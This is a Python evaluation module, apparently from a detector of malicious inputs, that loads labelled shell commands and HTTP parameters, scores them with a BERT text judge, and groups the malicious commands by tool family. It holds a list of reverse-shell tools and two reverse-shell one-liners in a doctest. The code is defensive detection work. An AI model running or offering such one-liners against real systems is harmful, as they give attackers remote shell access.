"""Labelled texts for simulations of the router, as the text judge sees them; each is judged once."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import NamedTuple

import orjson
import zstandard

from analyzers.bert.encoder import Encoder
from analyzers.bert.judge import TextJudge, Verdict
from analyzers.bert.manifest import BUILTIN_MODEL
from analyzers.bert.meanings import Bar
from analyzers.bert.settings import BertSettings
from analyzers.learning.texts import generated, parameters
from analyzers.router.learn_then_test import Labelled

#: What a malicious command of shell_commands is made with; the first that is found names its family.
_TOOLS = (
    "python", "perl", "ruby", "php", "lua", "socat", "telnet", "openssl", "awk", "node", "curl", "wget", "rcat",
    "zsh", "busybox", "ncat", "nc", "mkfifo", "mknod", "/dev/tcp", "/dev/udp",
)  # fmt: skip
#: A family of fewer malicious texts is told of no one.
LEAST = 60


class Sample(NamedTuple):
    """A text: the set that it is of, its family, and what the judge said."""

    set: str
    family: str
    labelled: Labelled


def read(data: Path, model: Path = BUILTIN_MODEL, most: int = 20_000) -> tuple[str, list[Sample]]:
    """Return the model's version and the texts of all sets, at most so many of each, judged."""
    judge = TextJudge(Encoder.load(model))
    asked = Bar(BertSettings().alert_from).asked(judge)
    found = []
    seen = set()
    for name, texts in (("commands", _commands(data)), ("parameters", _parameters(data)), ("templates", _templates())):
        distinct = [text for text in texts if text[:2] not in seen and not seen.add(text[:2])]  # type: ignore[func-returns-value]
        found += list(_judged(name, distinct[:: max(1, -(-len(distinct) // most))], judge, asked))
    return judge.version, found


def _judged(
    name: str, texts: Sequence[tuple[str, str, bool, str]], judge: TextJudge, asked: dict[str, float]
) -> Iterator[Sample]:
    for start in range(0, len(texts), 512):
        some = texts[start : start + 512]
        said = judge.judge([(text, source) for text, source, _, _ in some])
        for (_, source, truth, family), verdict in zip(some, said, strict=True):
            if isinstance(verdict, Verdict):
                score, label = max(zip(verdict.scores, judge.labels, strict=True))
                yield Sample(name, family, Labelled(source, truth, score, asked[label]))


def _commands(data: Path) -> Iterator[tuple[str, str, bool, str]]:
    """Yield shell_commands, of which training saw none."""
    for path in sorted((data / "shell_commands").glob("*.jsonl.zst")):
        raw = zstandard.ZstdDecompressor().stream_reader(path.read_bytes(), read_across_frames=True).read()
        for line in raw.splitlines():
            record = orjson.loads(line)
            truth = record["label"] != "benign"
            family = family_of(record["text"]) if record["src"] != "slp_manual" else "collected by hand"
            yield record["text"], "shell", truth, family if truth else "benign"


def _parameters(data: Path) -> Iterator[tuple[str, str, bool, str]]:
    """Yield the part of http_params that was held back from training."""
    for path in sorted((data / "http_params").glob("*.csv.zst")):
        for text in parameters(path, "test"):
            yield text.text, text.source, bool(text.labels), (*text.labels, "benign")[0]


def _templates() -> Iterator[tuple[str, str, bool, str]]:
    """Yield texts of Winnow's own templates that were held back from training."""
    for text in generated("test", 0.06, "bench-router"):
        yield text.text, text.source, bool(text.labels), text.family if text.labels else "benign"


def family_of(command: str) -> str:
    """Return what a malicious command is made with.

    >>> family_of("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), family_of("ncat 10.0.0.1 4444 -e sh")
    ('/dev/tcp', 'ncat')
    """
    for tool in _TOOLS:
        if re.search(rf"(?<![a-z]){tool}(?![a-z])", command):
            return tool
    return "other"
